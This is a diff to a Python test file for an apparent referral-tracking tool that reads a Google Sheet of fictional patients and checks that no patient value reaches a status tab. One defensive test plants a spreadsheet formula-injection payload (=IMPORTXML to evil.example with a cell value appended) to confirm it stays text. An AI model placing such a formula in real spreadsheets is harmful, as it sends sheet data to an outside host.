@@ -25,8 +25,8 @@ from conftest import SAMPLE_PATIENT_VALUES, wait_for
 
 BOOK = "1StatusTabBook0123456789abcdefghij"
 TAB = "followupd"
-WEEK_AGO = (date.today() - timedelta(days=7)).isoformat()
-DAYS_AGO = (date.today() - timedelta(days=3)).isoformat()
+TEN_DAYS_AGO = (date.today() - timedelta(days=10)).isoformat()
+DAYS_AGO = (date.today() - timedelta(days=7)).isoformat()
 SOURCE = f"""  - name: intake-sheet
     kind: google_sheet
     table: referrals
@@ -57,11 +57,11 @@ SUMMARY = "Finished after twelve sessions, no panic since October"
 # Every patient value the sheet holds: none may reach the status tab.
 PATIENT_VALUES = (*SAMPLE_PATIENT_VALUES, FOCUS, SUMMARY)
 PATIENTS = [
-    ["R-1", WEEK_AGO, "Dr. Ann Lee", "ann@lee.example", "Avery Quinlan", "1984-03-09",
+    ["R-1", TEN_DAYS_AGO, "Dr. Ann Lee", "ann@lee.example", "Avery Quinlan", "1984-03-09",
      "Panic attacks", FOCUS, "yes", "", ""],
-    ["R-2", WEEK_AGO, "Dr. Ann Lee", "ann@lee.example", "Jordan Pelletier", "1991-07-22",
+    ["R-2", TEN_DAYS_AGO, "Dr. Ann Lee", "ann@lee.example", "Jordan Pelletier", "1991-07-22",
      "Low mood", "", "no", "", ""],
-    ["R-3", WEEK_AGO, "Dr. Raj Osei", "raj@osei.example", "Casey Fairbanks", "1978-12-01",
+    ["R-3", TEN_DAYS_AGO, "Dr. Raj Osei", "raj@osei.example", "Casey Fairbanks", "1978-12-01",
      "Generalized worry", FOCUS, "yes", DAYS_AGO, SUMMARY],
 ]  # fmt: skip
 WRITES = ("spreadsheets.batchUpdate", "spreadsheets.values.update", "spreadsheets.values.clear")
@@ -128,7 +128,7 @@ def test_the_tab_shows_each_ref_drafted_held_and_sent_never_a_patient_value(cli,
     first = by_ref(tab(server))
     assert set(first) == {"R-1", "R-2", "R-3"}  # read, not planned yet: no note columns
     assert tab(server)[0] == ["ref", "received", "why held"]
-    assert first["R-1"]["received"] == WEEK_AGO
+    assert first["R-1"]["received"] == TEN_DAYS_AGO
     ran = cli("run", "--once", env=env)
     assert ran.code == 0, ran.stdout + ran.stderr
     server.send_draft("me", draft_of(cli, env, "R-1", "referral-acknowledgement"))
@@ -204,7 +204,7 @@ def test_the_grid_grows_for_1200_refs_and_a_shorter_write_clears_the_rest(cli, h
 def test_a_ref_that_looks_like_a_formula_stays_text(cli, home, google):
     server, env = google
     trap = '=IMPORTXML("https://evil.example/?q=" & A2, "//a")'
-    server.append_row(BOOK, "Referrals", [trap, WEEK_AGO, "Dr. Ann Lee", "ann@lee.example",
+    server.append_row(BOOK, "Referrals", [trap, TEN_DAYS_AGO, "Dr. Ann Lee", "ann@lee.example",
                                           "Avery Quinlan", "", "", "", "no", "", ""])  # fmt: skip
     assert cli("sources", "read", env=env).code == 0
     stored = [row[0] for row in server.sheet(BOOK, TAB)]
